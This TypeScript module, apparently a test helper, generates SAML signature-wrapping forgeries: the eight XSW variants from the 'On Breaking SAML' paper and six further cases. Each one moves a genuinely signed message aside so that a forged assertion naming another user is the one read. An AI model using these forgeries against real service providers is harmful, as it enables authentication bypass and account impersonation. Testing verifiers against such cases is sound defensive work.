/**
 * The eight classic ways to wrap a signature (Somorovsky et al., "On Breaking SAML", XSW1-XSW8): a message somebody's
 * provider signed is kept where the signature still finds it, a forged one stands where it is read.
 */
const SIGNATURE = /<ds:Signature[\s\S]*<\/ds:Signature>/;

interface Wrapping {
  /** A response, signed as a whole. */
  response: string;
  /** A response with a signed assertion. */
  assertion: string;
  /** What the forgery changes: whom it names. */
  forge: (xml: string) => string;
}

const signatureOf = (xml: string): string => SIGNATURE.exec(xml)![0];
const unsigned = (xml: string): string => xml.replace(SIGNATURE, '');
const assertionOf = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)![0];
const renamed = (xml: string): string => xml.replace(/ ID="[^"]+"/, ' ID="_evil"');
const inside = (element: string, xml: string, child: string): string =>
  xml.replace(new RegExp(`</${element}>$`), `${child}</${element}>`);
const inSignature = (signature: string, child: string): string => inside('ds:Signature', signature, child);
const object = (child: string): string => `<ds:Object>${child}</ds:Object>`;
const afterIssuer = (xml: string, child: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${child}`);

export function wrappings({ response, assertion, forge }: Wrapping): [name: string, xml: string][] {
  const original = assertionOf(assertion);
  const forged = forge(unsigned(original));
  const evil = renamed(forged);
  const around = (inner: string): string => assertion.replace(original, inner);
  const evilResponse = renamed(forge(unsigned(response)));
  const bare = unsigned(original);
  const signature = signatureOf(original);
  return [
    ['XSW1', afterIssuer(evilResponse, inSignature(signatureOf(response), object(unsigned(response))))],
    ['XSW2', afterIssuer(evilResponse, unsigned(response) + signatureOf(response))],
    ['XSW3', around(evil + original)],
    ['XSW4', around(inside('saml:Assertion', evil, original))],
    ['XSW5', around(afterIssuer(evil, signature) + bare)],
    ['XSW6', around(afterIssuer(evil, inSignature(signature, bare)))],
    ['XSW7', around(`<samlp:Extensions>${evil}</samlp:Extensions>${original}`)],
    ['XSW8', around(afterIssuer(evil, inSignature(signature, object(bare))))],
    ['XSW3 with one id', around(forged + original)],
    ['XSW4 with one id', around(inside('saml:Assertion', forged, original))],
    ['XSW7 with one id', around(`<samlp:Extensions>${forged}</samlp:Extensions>${original}`)],
    [
      'an assertion beside a signed one, in another namespace',
      around(evil.replaceAll('saml:', 'samlp:') + original),
    ],
    [
      'a signed response inside another',
      afterIssuer(evilResponse, `<samlp:Extensions>${response}</samlp:Extensions>`),
    ],
    ['a signature moved to the response', afterIssuer(around(bare), signature).replace(bare, forge(bare))],
  ];
}
